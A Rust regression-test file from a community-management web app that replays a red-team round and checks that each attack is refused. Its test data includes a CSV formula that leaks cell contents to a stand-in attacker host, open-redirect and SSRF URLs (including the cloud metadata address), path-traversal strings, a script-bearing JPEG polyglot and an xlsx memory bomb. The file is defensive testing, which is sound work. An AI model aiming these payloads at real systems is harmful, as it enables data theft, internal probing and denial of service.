//! The held-out red-team round of issue #6, kept as regressions (`docs/attacks.md` lists every
//! attack tried). The first tests are the findings that were fixed; the later ones are attacks
//! that held, kept cheap so they stay held. Registry scoping, CSRF by construction, session
//! rotation and generic hostile input are covered in `authz.rs` and `security.rs`.

use serde_json::{Value, json};

use crate::common::{PASSWORD, Session, TestApp, demo_resident};

/// A call with `Authorization: Bearer <secret>` and no cookie.
async fn with_token(
    app: &TestApp,
    secret: &str,
    method: &str,
    uri: &str,
    body: Option<Value>,
) -> crate::common::Resp {
    let auth = format!("Bearer {secret}");
    let body = body.map(|b| ("application/json", b.to_string().into_bytes()));
    app.call(method, uri, None, body, &[("authorization", &auth)])
        .await
}

/// A token that can only read persons in the first grid of 幸福里社区.
async fn narrow_token(app: &TestApp, owner: &Session) -> (String, String) {
    let c1 = app
        .place_path(&app.place_id("community", "幸福里社区").await)
        .await;
    let grid = app.place_id_in("grid", "第一网格", &c1).await;
    let v = app
        .post(
            owner,
            "/api/v1/auth/tokens",
            json!({"name": "某公司 人员查询", "actions": ["person_read"], "place_id": grid, "expires_in_days": 1}),
        )
        .await
        .expect(201);
    (
        v["token"].as_str().unwrap().to_string(),
        v["info"]["id"].as_str().unwrap().to_string(),
    )
}

/// Finding 1: an integration token made for one action acted as the person who made it on the
/// personal endpoints (inbox, notification e-mail, follows, token management), which check no
/// action: a `person_read` token could read its creator's notices and send them to another
/// address. Those endpoints now take a signed-in person only.
#[tokio::test]
async fn a_token_cannot_act_as_the_person_who_made_it() {
    let app = TestApp::demo().await;
    let committee = app.login("committee").await;
    let (secret, _) = narrow_token(&app, &committee).await;
    let (_, other_id) = narrow_token(&app, &committee).await;
    let channels_before = app.get(&committee, "/api/v1/me/channels").await.ok();
    let audit_before = app.store.audit_verify().await.unwrap().entries;

    let refused: [(&str, &str, Option<Value>); 9] = [
        ("GET", "/api/v1/inbox", None),
        ("GET", "/api/v1/inbox/unread-count", None),
        ("POST", "/api/v1/inbox/read-all", Some(json!({}))),
        ("GET", "/api/v1/me/channels", None),
        (
            "PUT",
            "/api/v1/me/channels",
            Some(json!({"email": "attacker@example.com", "email_enabled": true, "muted": []})),
        ),
        ("GET", "/api/v1/follows", None),
        (
            "POST",
            "/api/v1/follows",
            Some(json!({"entity": "place", "entity_id": "x"})),
        ),
        ("GET", "/api/v1/auth/tokens", None),
        ("DELETE", "/api/v1/auth/tokens/{other}", None),
    ];
    for (method, uri, body) in refused {
        let uri = uri.replace("{other}", &other_id);
        let r = with_token(&app, &secret, method, &uri, body).await;
        assert_eq!(r.status, 403, "{method} {uri}: {}", r.text());
        assert_eq!(r.json()["code"], "auth.token_not_allowed", "{method} {uri}");
    }
    // Localized: the message says why, in both languages.
    let r = app
        .call(
            "GET",
            "/api/v1/inbox",
            None,
            None,
            &[
                ("authorization", &format!("Bearer {secret}")),
                ("accept-language", "en"),
            ],
        )
        .await;
    assert!(r.json()["message"].as_str().unwrap().contains("token"));

    // Nothing changed: the e-mail channel, the other token, the audit log.
    assert_eq!(
        app.get(&committee, "/api/v1/me/channels").await.ok(),
        channels_before
    );
    let tokens = app.get(&committee, "/api/v1/auth/tokens").await.ok();
    assert!(
        tokens
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t["id"] == other_id.as_str() && t["revoked_at"].is_null()),
        "{tokens}"
    );
    assert_eq!(
        app.store.audit_verify().await.unwrap().entries,
        audit_before
    );
    // What the token is for still works, and it may say who it is.
    let r = with_token(&app, &secret, "GET", "/api/v1/persons?limit=1", None).await;
    assert_eq!(r.status, 200, "{}", r.text());
    let r = with_token(&app, &secret, "GET", "/api/v1/auth/me", None).await;
    assert_eq!(r.status, 200, "{}", r.text());
    app.close().await;
}

/// Finding 2: the account lock was keyed by the text typed as login, so an account locked after
/// wrong passwords under its login name could still be tried (and entered) under its mobile
/// number, and the other way round. The lock now follows the account.
#[tokio::test]
async fn a_locked_account_stays_locked_under_its_mobile_number() {
    let app = TestApp::demo().await;
    let (_, _, phone) = demo_resident();
    for _ in 0..5 {
        let r = app.login_with("resident", "wrong-password").await;
        assert_eq!(r.status, 401, "{}", r.text());
    }
    assert_eq!(app.login_with("resident", PASSWORD).await.status, 429);
    let r = app.login_with(&phone, PASSWORD).await;
    assert_eq!(
        r.status,
        429,
        "mobile number bypasses the lock: {}",
        r.text()
    );
    assert_eq!(r.json()["code"], "auth.login_locked");
    // The sign-in page follows the same lock.
    let form = format!("login={phone}&password={PASSWORD}&next=%2F");
    let r = app
        .call(
            "POST",
            "/login",
            None,
            Some(("application/x-www-form-urlencoded", form.into_bytes())),
            &[],
        )
        .await;
    assert_eq!(r.status, 200, "the form is shown again, not a redirect");
    assert!(r.headers.get("set-cookie").is_none());

    // And the other way round: failures under the number lock the login name.
    let app2 = TestApp::demo().await;
    for _ in 0..5 {
        app2.login_with(&phone, "wrong-password").await;
    }
    assert_eq!(app2.login_with("resident", PASSWORD).await.status, 429);
    // An unknown login is locked the same way and says the same thing (no enumeration).
    for _ in 0..5 {
        let r = app2.login_with("nobody-at-all", "wrong-password").await;
        assert_eq!(r.json()["code"], "auth.login_failed");
    }
    assert_eq!(
        app2.login_with("nobody-at-all", "x").await.json()["code"],
        "auth.login_locked"
    );
    app.close().await;
    app2.close().await;
}

/// Finding 3: the sign-in page's `next` let `/<TAB>/evil.example` through; browsers drop tabs and
/// newlines from URLs, so the redirect after sign-in went to `//evil.example`.
#[tokio::test]
async fn sign_in_never_redirects_to_another_site() {
    let app = TestApp::demo().await;
    for next in [
        "/%09/evil.example",
        "/%0A/evil.example",
        "/%0D%0A/evil.example",
        "%2F%2Fevil.example",
        "/%5Cevil.example",
        "https%3A%2F%2Fevil.example",
        "%20//evil.example",
    ] {
        let form = format!("login=committee&password={PASSWORD}&next={next}");
        let r = app
            .call(
                "POST",
                "/login",
                None,
                Some(("application/x-www-form-urlencoded", form.into_bytes())),
                &[],
            )
            .await;
        assert_eq!(r.status, 303, "{next}: {}", r.text());
        let location = r.headers["location"].to_str().unwrap();
        assert_eq!(location, "/", "{next} redirected to {location:?}");
    }
    // A local path still works.
    let form = format!("login=committee&password={PASSWORD}&next=%2Fregistry%3Fq%3D1");
    let r = app
        .call(
            "POST",
            "/login",
            None,
            Some(("application/x-www-form-urlencoded", form.into_bytes())),
            &[],
        )
        .await;
    assert_eq!(r.headers["location"], "/registry?q=1");
    app.close().await;
}

/// Finding 4: CSV exports wrote cells that start with `=`, `+`, `-` or `@` as they were; Excel
/// and WPS run such a cell as a formula (`=HYPERLINK(...)` sends data away). Text cells are now
/// written with a leading `'` (the spreadsheet reader takes it off again: `sheet::tests`).
#[tokio::test]
async fn csv_exports_do_not_carry_formulas() {
    let app = TestApp::demo().await;
    let committee = app.login("committee").await;
    let hh = app.get(&committee, "/api/v1/households?limit=1").await.ok()["items"][0].clone();
    let hid = hh["id"].as_str().unwrap();
    let household = app
        .get(&committee, &format!("/api/v1/households/{hid}"))
        .await
        .ok();
    let person = &household["members"][0]["person"];
    let pid = person["id"].as_str().unwrap();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
    app.patch(
        &committee,
        &format!("/api/v1/persons/{pid}"),
        json!({"version": person["version"], "name": formula}),
    )
    .await
    .ok();
    let r = app
        .get(&committee, "/api/v1/registry/export/persons?format=csv")
        .await;
    assert_eq!(r.status, 200);
    let text = r.text();
    // Quoted (the formula has quotes and a comma), with the guard inside the quotes.
    let quoted = format!("\"'{}\"", formula.replace('"', "\"\""));
    assert!(text.contains(&quoted), "{text}");
    for line in text.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '@']),
                "formula cell in export: {line}"
            );
        }
    }
    let seen = true;
    assert!(seen, "the renamed person is in the export");
    app.close().await;
}

/// Finding 5: a NUL character (`\u0000` in JSON, `%00` in a URL or form) was stored as it came
/// on SQLite and made PostgreSQL fail the statement (a 500, and the same request answered
/// differently on the two databases). It is now refused up front with a localized 400 on both.
#[tokio::test]
async fn nul_characters_are_refused_the_same_on_both_databases() {
    let app = TestApp::demo().await;
    let committee = app.login("committee").await;
    let resident = app.login("resident").await;
    let room = app.get(&resident, "/api/v1/me/household").await.ok()["room_id"]
        .as_str()
        .unwrap()
        .to_string();
    let before = app.store.audit_verify().await.unwrap().entries;
    let probes: Vec<(&Session, &str, String, Option<(&str, Vec<u8>)>)> = vec![
        (
            &resident,
            "POST",
            "/api/v1/reports".into(),
            Some((
                "application/json",
                format!(
                    r#"{{"category":"suggestion","description":"a\u0000b","place_id":"{room}"}}"#
                )
                .into_bytes(),
            )),
        ),
        (&committee, "GET", "/api/v1/persons?name=%00".into(), None),
        (&committee, "GET", "/api/v1/persons/ab%00cd".into(), None),
        (
            &committee,
            "GET",
            "/api/v1/reports?category=x%00".into(),
            None,
        ),
        (
            &resident,
            "POST",
            "/me/reports/new".into(),
            Some((
                "application/x-www-form-urlencoded",
                format!(
                    "_csrf={}&category=suggestion&description=a%00b&place_id={room}",
                    resident.csrf
                )
                .into_bytes(),
            )),
        ),
    ];
    for (s, method, uri, body) in probes {
        let r = app.call(method, &uri, Some(s), body, &[]).await;
        assert_eq!(r.status, 400, "{method} {uri}: {}", r.text());
        if r.headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("application/json")
        {
            assert_eq!(r.json()["code"], "validation.nul", "{method} {uri}");
        }
    }
    // Open311 clients get the refusal in the spec's shape: a list of {code, description}, in
    // XML for `.xml` paths.
    let r = app
        .call(
            "GET",
            "/open311/v2/requests.json?status=open%00",
            None,
            None,
            &[],
        )
        .await;
    assert_eq!(r.status, 400, "{}", r.text());
    let list = r.json();
    assert_eq!(list[0]["code"], 400, "{list}");
    assert!(
        list[0]["description"]
            .as_str()
            .is_some_and(|d| !d.is_empty())
    );
    let r = app
        .call(
            "POST",
            "/open311/v2/requests.xml",
            None,
            Some((
                "application/x-www-form-urlencoded",
                b"service_code=suggestion&description=a%00b&lat=30.6&long=114.3".to_vec(),
            )),
            &[],
        )
        .await;
    assert_eq!(r.status, 400);
    let xml = r.text();
    assert!(
        xml.contains("<errors>") && xml.contains("<code>400</code>"),
        "{xml}"
    );
    assert_eq!(
        app.store.audit_verify().await.unwrap().entries,
        before,
        "nothing was written"
    );
    // The layer reads JSON bodies up to axum's 2 MB limit; beyond, a localized 413.
    let big = format!(
        r#"{{"category":"suggestion","description":"{}","place_id":"{room}"}}"#,
        "长".repeat(1_100_000)
    );
    let r = app
        .call(
            "POST",
            "/api/v1/reports",
            Some(&resident),
            Some(("application/json", big.into_bytes())),
            &[],
        )
        .await
        .expect(413);
    assert_eq!(r["code"], "payload_too_large");
    // A spreadsheet with a NUL is not text: refused as a whole (held before this round).
    let (building, unit, room_name) = app.room_names("幸福里社区").await;
    let csv = format!(
        "户号,社区,楼栋,单元,房号,居住类型,姓名,与户主关系,身份证号\nN1,幸福里社区,{building},{unit},{room_name},业主,空\0字符,户主,{}\n",
        crate::common::fresh_id(7)
    );
    let r = app
        .call(
            "POST",
            "/api/v1/registry/import/households",
            Some(&committee),
            Some(("text/csv", csv.into_bytes())),
            &[],
        )
        .await
        .expect(400);
    assert_eq!(r["code"], "import.not_a_spreadsheet");
    assert_eq!(app.store.audit_verify().await.unwrap().entries, before);
    // An escaped backslash before `u0000` is text, not NUL, and is kept.
    let r = app
        .call(
            "POST",
            "/api/v1/reports",
            Some(&resident),
            Some((
                "application/json",
                format!(r#"{{"category":"suggestion","description":"路径 C:\\u0000 不是空字符","place_id":"{room}"}}"#)
                    .into_bytes(),
            )),
            &[],
        )
        .await
        .expect(201);
    assert_eq!(r["report"]["description"], "路径 C:\\u0000 不是空字符");
    app.close().await;
}

/// A JPEG whose application segments and tail carry what a photo should not: a C2PA/JUMBF
/// manifest with a position (APP11), maker data with markup (APP15), and an HTML page after the
/// end of the image (a polyglot).
fn jpeg_polyglot() -> Vec<u8> {
    let mut v = vec![0xFF, 0xD8];
    for (marker, payload) in [
        (0xE0u8, &b"JFIF\0\x01\x02\0\0\x01\0\x01\0\0"[..]),
        (0xEB, b"JP\0\0c2pa GPSLatitude=30.59"),
        (0xEF, b"maker <script>alert(1)</script>"),
    ] {
        v.extend_from_slice(&[0xFF, marker]);
        v.extend_from_slice(&((payload.len() + 2) as u16).to_be_bytes());
        v.extend_from_slice(payload);
    }
    v.extend_from_slice(&[0xFF, 0xC0, 0x00, 0x0B, 8, 0, 1, 0, 1, 1, 1, 0x11, 0]);
    v.extend_from_slice(&[0xFF, 0xDA, 0x00, 0x08, 1, 1, 0, 0, 0x3F, 0]);
    v.extend_from_slice(&[0x12, 0x34, 0xFF, 0x00, 0x56, 0xFF, 0xD9]);
    v.extend_from_slice(b"<html><script>alert(2)</script></html>");
    v
}

/// Finding 6: the photo cleaner removed EXIF, XMP, IPTC, text chunks and comments by name and
/// kept every other segment, so a C2PA manifest (which phones fill with the position) or any
/// private chunk reached other viewers. Only what draws the picture is kept now. A lying
/// content type changes nothing: the type comes from the bytes, and pages are never served.
#[tokio::test]
async fn photos_keep_only_what_draws_the_picture() {
    let app = TestApp::demo().await;
    let resident = app.login("resident").await;
    let room = app.get(&resident, "/api/v1/me/household").await.ok()["room_id"]
        .as_str()
        .unwrap()
        .to_string();
    let report = app
        .post(
            &resident,
            "/api/v1/reports",
            json!({"category": "repair_common", "description": "楼道灯坏了", "place_id": room}),
        )
        .await
        .expect(201)["report"]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let photo = app
        .call(
            "POST",
            &format!("/api/v1/reports/{report}/photos"),
            Some(&resident),
            Some(("text/html", jpeg_polyglot())),
            &[],
        )
        .await
        .expect(201);
    assert_eq!(photo["mime"], "image/jpeg");
    let r = app
        .get(
            &resident,
            &format!(
                "/api/v1/reports/{report}/photos/{}",
                photo["id"].as_str().unwrap()
            ),
        )
        .await;
    assert_eq!(r.status, 200);
    assert_eq!(r.headers["content-type"], "image/jpeg");
    assert_eq!(r.headers["x-content-type-options"], "nosniff");
    for gone in [&b"c2pa"[..], b"GPS", b"script", b"<html"] {
        assert!(
            !r.bytes.windows(gone.len()).any(|w| w == gone),
            "{} kept",
            String::from_utf8_lossy(gone)
        );
    }
    assert!(r.bytes.windows(4).any(|w| w == b"JFIF"));
    assert!(r.bytes.ends_with(&[0xFF, 0xD9]));
    app.close().await;
}

/// Finding 7: a webhook admin of one community could point a webhook at the cloud metadata
/// service (169.254.169.254) or other link-local addresses and read the delivery log's status
/// and errors: a probe of the server's own surroundings. Such hosts are refused; receivers on
/// private networks stay allowed.
#[tokio::test]
async fn webhooks_cannot_point_at_the_metadata_service() {
    let app = TestApp::demo().await;
    let committee = app.login("committee").await;
    let c1 = app.place_id("community", "幸福里社区").await;
    let before = app.store.audit_verify().await.unwrap().entries;
    for url in [
        "http://169.254.169.254/latest/meta-data/iam/",
        "http://[fe80::1]:8080/",
        "http://0.0.0.0:5432/",
    ] {
        let r = app
            .post(
                &committee,
                "/api/v1/webhooks",
                json!({"name": "探测", "url": url, "kinds": ["report.created"], "place_id": c1}),
            )
            .await
            .expect(400);
        assert_eq!(r["code"], "notify.webhook.url_not_allowed", "{url}");
    }
    assert_eq!(app.store.audit_verify().await.unwrap().entries, before);
    let hook = app
        .post(
            &committee,
            "/api/v1/webhooks",
            json!({"name": "内网接收", "url": "http://10.0.0.5:8080/in", "kinds": ["report.created"], "place_id": c1}),
        )
        .await
        .expect(201);
    let id = hook["id"].as_str().unwrap();
    let r = app
        .patch(
            &committee,
            &format!("/api/v1/webhooks/{id}"),
            json!({"url": "http://169.254.169.254/"}),
        )
        .await
        .expect(400);
    assert_eq!(r["code"], "notify.webhook.url_not_allowed");
    let kept = app
        .get(&committee, &format!("/api/v1/webhooks/{id}"))
        .await
        .ok();
    assert_eq!(kept["url"], "http://10.0.0.5:8080/in");
    app.close().await;
}

// ---- Attacks that held, kept so they stay held ----

/// A resident of another household and staff of another community see nothing of a private
/// complaint or its photo, also through another report's id (nested IDOR), path tricks in the
/// photo id, or the actions of the state machine; nothing changes.
#[tokio::test]
async fn held_reports_and_photos_stay_inside_their_visibility() {
    let app = TestApp::demo().await;
    let admin = app.login("admin").await;
    let resident = app.login("resident").await;
    let committee = app.login("committee").await;
    let other_staff = app.login("committee3").await;
    let own = resident.user["households"][0].as_str().unwrap().to_string();
    let neighbour_home = app.get(&committee, "/api/v1/households?limit=5").await.ok()["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["id"].as_str().unwrap().to_string())
        .find(|id| *id != own)
        .unwrap();
    app.post(
        &admin,
        "/api/v1/users",
        json!({"login": "neighbour", "display_name": "邻居", "password": PASSWORD,
               "bindings": [{"role": "resident", "household_id": neighbour_home}]}),
    )
    .await
    .expect(201);
    let neighbour = app.login("neighbour").await;
    let room = app.get(&resident, "/api/v1/me/household").await.ok()["room_id"]
        .as_str()
        .unwrap()
        .to_string();
    let mine = app
        .post(
            &resident,
            "/api/v1/reports",
            json!({"category": "complaint_property", "description": "物业乱收费，我的电话 13800000000", "place_id": room}),
        )
        .await
        .expect(201)["report"]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let photo = app
        .call(
            "POST",
            &format!("/api/v1/reports/{mine}/photos"),
            Some(&resident),
            Some(("image/jpeg", jpeg_polyglot())),
            &[],
        )
        .await
        .expect(201)["id"]
        .as_str()
        .unwrap()
        .to_string();
    let neighbour_room = app.get(&neighbour, "/api/v1/me/household").await.ok()["room_id"]
        .as_str()
        .unwrap()
        .to_string();
    let theirs = app
        .post(
            &neighbour,
            "/api/v1/reports",
            json!({"category": "repair_common", "description": "楼道灯", "place_id": neighbour_room}),
        )
        .await
        .expect(201)["report"]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let before = app.store.audit_verify().await.unwrap().entries;
    for s in [&neighbour, &other_staff] {
        for uri in [
            format!("/api/v1/reports/{mine}"),
            format!("/api/v1/reports/{mine}/photos/{photo}"),
        ] {
            assert_eq!(app.get(s, &uri).await.status, 404, "{uri}");
        }
        for (uri, body) in [
            (format!("/api/v1/reports/{mine}/me-too"), json!({})),
            (
                format!("/api/v1/reports/{mine}/actions"),
                json!({"action": "visit", "rating": 1}),
            ),
            (
                format!("/api/v1/reports/{mine}/actions"),
                json!({"action": "accept"}),
            ),
        ] {
            assert_eq!(app.post(s, &uri, body).await.status, 404, "{uri}");
        }
    }
    // The neighbour's own report with the other report's photo id.
    let r = app
        .get(
            &neighbour,
            &format!("/api/v1/reports/{theirs}/photos/{photo}"),
        )
        .await;
    assert_eq!(r.status, 404);
    assert_eq!(r.json()["code"], "report.photo_not_found");
    for trick in [
        "..%2F..%2Fmaster.key",
        "%2e%2e%2fmaster.key",
        "..%5Cmaster.key",
    ] {
        let r = app
            .get(&resident, &format!("/api/v1/reports/{mine}/photos/{trick}"))
            .await;
        assert_eq!(r.status, 404, "{trick}");
    }
    let text = app
        .get(&neighbour, "/api/v1/reports?limit=200")
        .await
        .text();
    assert!(!text.contains(&mine), "listed to the neighbour");
    assert_eq!(app.store.audit_verify().await.unwrap().entries, before);
    app.close().await;
}

/// Staff of another community get "not found" for devices, telemetry, alarms, gates, visitor
/// passes and webhooks whose ids they took from elsewhere, and change nothing.
#[tokio::test]
async fn held_ids_from_another_community_are_not_found_on_every_module() {
    let app = TestApp::demo().await;
    let committee = app.login("committee").await;
    let resident = app.login("resident").await;
    let other = app.login("committee3").await;
    let c1 = app.place_id("community", "幸福里社区").await;
    let property = app.login("property").await;
    let device = app
        .post(
            &property,
            "/api/v1/iot/devices",
            json!({"kind": "smoke", "name": "1栋烟感", "place_id": c1}),
        )
        .await
        .expect(201)["device"]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let gate = app
        .post(
            &property,
            "/api/v1/access/gates",
            json!({"name": "东门人脸", "place_id": c1, "kind": "face", "device_id": "dev-east"}),
        )
        .await
        .expect(201)["id"]
        .as_str()
        .unwrap()
        .to_string();
    let alarm = app
        .post(&resident, "/api/v1/me/sos", json!({}))
        .await
        .expect(201)["alarm_id"]
        .as_str()
        .unwrap()
        .to_string();
    let now = chrono::Utc::now().timestamp_millis();
    let pass = app
        .post(
            &resident,
            "/api/v1/access/passes",
            json!({"visitor_name": "张三", "phone": "13912345678", "valid_from": now, "valid_until": now + 3_600_000, "multi_use": false}),
        )
        .await
        .expect(201)["id"]
        .as_str()
        .unwrap()
        .to_string();
    let hook = app
        .post(
            &committee,
            "/api/v1/webhooks",
            json!({"name": "社区平台", "url": "https://hooks.example.org/in", "kinds": ["report.created"], "place_id": c1}),
        )
        .await
        .expect(201)["id"]
        .as_str()
        .unwrap()
        .to_string();
    let before = app.store.audit_verify().await.unwrap().entries;
    for uri in [
        format!("/api/v1/iot/devices/{device}"),
        format!("/api/v1/iot/devices/{device}/telemetry"),
        format!("/api/v1/alarms/{alarm}"),
        format!("/api/v1/access/gates/{gate}"),
        format!("/api/v1/access/passes/{pass}"),
        format!("/api/v1/access/passes/{pass}/qr.svg"),
        format!("/api/v1/webhooks/{hook}"),
        format!("/api/v1/webhooks/{hook}/deliveries"),
    ] {
        assert_eq!(app.get(&other, &uri).await.status, 404, "GET {uri}");
    }
    for (uri, body) in [
        (format!("/api/v1/alarms/{alarm}/ack"), json!({})),
        (
            format!("/api/v1/alarms/{alarm}/comment"),
            json!({"text": "x"}),
        ),
        (format!("/api/v1/access/passes/{pass}/revoke"), json!({})),
        (format!("/api/v1/webhooks/{hook}/ping"), json!({})),
        (
            "/api/v1/follows".to_string(),
            json!({"entity": "alarm", "entity_id": alarm}),
        ),
    ] {
        let r = app.post(&other, &uri, body).await;
        assert_eq!(r.status, 404, "POST {uri}: {}", r.text());
    }
    let r = app
        .patch(
            &other,
            &format!("/api/v1/webhooks/{hook}"),
            json!({"url": "https://evil.example/"}),
        )
        .await;
    assert_eq!(r.status, 404);
    assert_eq!(app.store.audit_verify().await.unwrap().entries, before);
    app.close().await;
}

/// A form posted with the CSRF token of another session is refused like one without; a
/// cookie API write with another session's `X-CSRF-Token` likewise. Nothing changes.
#[tokio::test]
async fn held_csrf_tokens_of_another_session_are_refused() {
    let app = TestApp::demo().await;
    let resident = app.login("resident").await;
    let committee = app.login("committee").await;
    let unread = |v: Value| v["count"].as_i64().unwrap();
    let room = app.get(&resident, "/api/v1/me/household").await.ok()["room_id"].clone();
    app.post(
        &resident,
        "/api/v1/reports",
        json!({"category": "suggestion", "description": "建议加装路灯", "place_id": room}),
    )
    .await
    .expect(201);
    let before = unread(app.get(&committee, "/api/v1/inbox/unread-count").await.ok());
    let form = format!("_csrf={}", resident.csrf);
    let r = app
        .call(
            "POST",
            "/inbox/read-all",
            Some(&committee),
            Some(("application/x-www-form-urlencoded", form.into_bytes())),
            &[],
        )
        .await;
    assert_eq!(r.status, 403);
    let mixed = Session {
        csrf: resident.csrf.clone(),
        ..committee.clone()
    };
    let r = app.post(&mixed, "/api/v1/inbox/read-all", json!({})).await;
    assert_eq!(r.status, 403);
    assert_eq!(r.json()["details"]["reason"], "auth.csrf");
    assert_eq!(
        unread(app.get(&committee, "/api/v1/inbox/unread-count").await.ok()),
        before
    );
    assert!(before > 0, "the report reached the committee's inbox");
    app.close().await;
}

/// Finding 8: a live-update stream (`GET /events`) opened before signing out kept telling the
/// signed-out browser what happened in the area (event kinds and ids). The stream now ends with
/// the session.
#[tokio::test]
async fn the_live_stream_ends_with_the_session() {
    use axum::body::Body;
    use http_body_util::BodyExt;
    use std::time::Duration;
    use tower::ServiceExt;

    let app = TestApp::demo().await;
    let committee = app.login("committee").await;
    let resident = app.login("resident").await;
    let room = app.get(&resident, "/api/v1/me/household").await.ok()["room_id"].clone();
    let open = || async {
        let req = axum::http::Request::get("/events")
            .header("cookie", &committee.cookie)
            .body(Body::empty())
            .unwrap();
        let resp = app.router.clone().oneshot(req).await.unwrap();
        assert_eq!(resp.status(), 200);
        resp.into_body()
    };
    let next = |mut body: Body| async move {
        let frame = tokio::time::timeout(Duration::from_secs(3), body.frame()).await;
        let text = match frame {
            Ok(Some(Ok(f))) => f
                .into_data()
                .ok()
                .map(|b| String::from_utf8_lossy(&b).to_string()),
            _ => None,
        };
        (text, body)
    };
    let report = |text: &'static str| {
        let room = room.clone();
        let resident = resident.clone();
        let app = &app;
        async move {
            app.post(
                &resident,
                "/api/v1/reports",
                json!({"category": "suggestion", "description": text, "place_id": room}),
            )
            .await
            .expect(201)["report"]["id"]
                .as_str()
                .unwrap()
                .to_string()
        }
    };
    // Signed in: told.
    let body = open().await;
    report("路灯不亮").await;
    let (ev, body) = next(body).await;
    assert!(
        ev.is_some_and(|e| e.contains("report.")),
        "the live page is told"
    );
    // Signed out: the same stream tells nothing more and ends.
    app.post(&committee, "/api/v1/auth/logout", json!({}))
        .await
        .expect(204);
    let later = report("垃圾桶满了").await;
    // (Frames of the first report may still be queued: a report event also comes as `report`.)
    let mut body = body;
    loop {
        let (ev, rest) = next(body).await;
        let Some(ev) = ev else { break };
        assert!(!ev.contains(&later), "a signed-out stream was told: {ev:?}");
        body = rest;
    }
    app.close().await;
}

/// Finding 9: a visitor pass starting ~292 million years ago overflowed the window check
/// (`until - from`): a panic answered 500 in debug builds, and release builds wrapped around and
/// stored the pass. Refused as a bad window now.
#[tokio::test]
async fn a_pass_window_cannot_overflow() {
    let app = TestApp::demo().await;
    let resident = app.login("resident").await;
    let now = chrono::Utc::now().timestamp_millis();
    let before = app.store.audit_verify().await.unwrap().entries;
    for (from, until) in [
        (now - 9_223_372_036_854_775_000, now + 1_000_000),
        (i64::MIN, i64::MAX),
        (now, i64::MAX),
    ] {
        let r = app
            .post(
                &resident,
                "/api/v1/access/passes",
                json!({"visitor_name": "张三", "phone": "13912345678", "valid_from": from, "valid_until": until, "multi_use": true}),
            )
            .await;
        assert_eq!(r.status, 400, "{from}..{until}: {}", r.text());
        assert_eq!(r.json()["code"], "access.pass.bad_window");
    }
    assert_eq!(app.store.audit_verify().await.unwrap().entries, before);
    app.close().await;
}

/// Issue #13, finding 1: a 1.6 KB xlsx whose only cells are A1 and XFD1048576 made the reader
/// allocate the dense grid between them (550 GB) and the server abort. Through the API (raw body
/// and multipart) and the web import wizard it is now a 400 that says the limits, at once, in
/// the caller's language, and nothing is written. (The memory itself is measured in
/// `linli-core`'s `sheet::tests`, under a counting allocator.)
#[tokio::test]
async fn a_tiny_spreadsheet_declaring_a_far_cell_is_refused_without_exhausting_memory() {
    use std::io::Write;
    let app = TestApp::demo().await;
    let committee = app.login("committee").await;
    let ns = r#"xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships""#;
    let rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let parts = [
        (
            "_rels/.rels",
            format!(
                r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#
            ),
        ),
        (
            "xl/workbook.xml",
            format!(
                r#"<workbook {ns}><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>"#
            ),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            format!(
                r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!(
                r#"<worksheet {ns}><dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>户号</t></is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>"#
            ),
        ),
    ];
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, text) in parts {
        w.start_file(name, zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(text.as_bytes()).unwrap();
    }
    let bomb = w.finish().unwrap().into_inner();
    assert!(bomb.len() < 2048, "{} bytes", bomb.len());
    let entries = app.store.audit_verify().await.unwrap().entries;
    let url = "/api/v1/registry/import/households";

    let r = app
        .call(
            "POST",
            url,
            Some(&committee),
            Some(("application/octet-stream", bomb.clone())),
            &[("accept-language", "en")],
        )
        .await
        .expect(400);
    assert_eq!(r["code"], "import.sheet_too_large", "{r}");
    let msg = r["message"].as_str().unwrap();
    assert!(msg.contains("500000") && msg.contains("256"), "{msg}");

    let boundary = "linliboundary";
    let mut body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.xlsx\"\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(&bomb);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let ct = format!("multipart/form-data; boundary={boundary}");
    let r = app
        .call("POST", url, Some(&committee), Some((&ct, body)), &[])
        .await
        .expect(400);
    assert_eq!(r["code"], "import.sheet_too_large");
    assert!(r["message"].as_str().unwrap().contains("列"), "{r}");

    // The web wizard answers its own page again, with the message.
    let mut body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n{}\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.xlsx\"\r\n\r\n",
        committee.csrf
    )
    .into_bytes();
    body.extend_from_slice(&bomb);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let r = app
        .call(
            "POST",
            "/registry/import",
            None,
            Some((&ct, body)),
            &[("cookie", committee.cookie.as_str())],
        )
        .await;
    assert_eq!(r.status, 400, "{}", r.text());
    assert!(r.text().contains("256"), "{}", r.text());

    assert_eq!(app.store.audit_verify().await.unwrap().entries, entries);
    app.close().await;
}
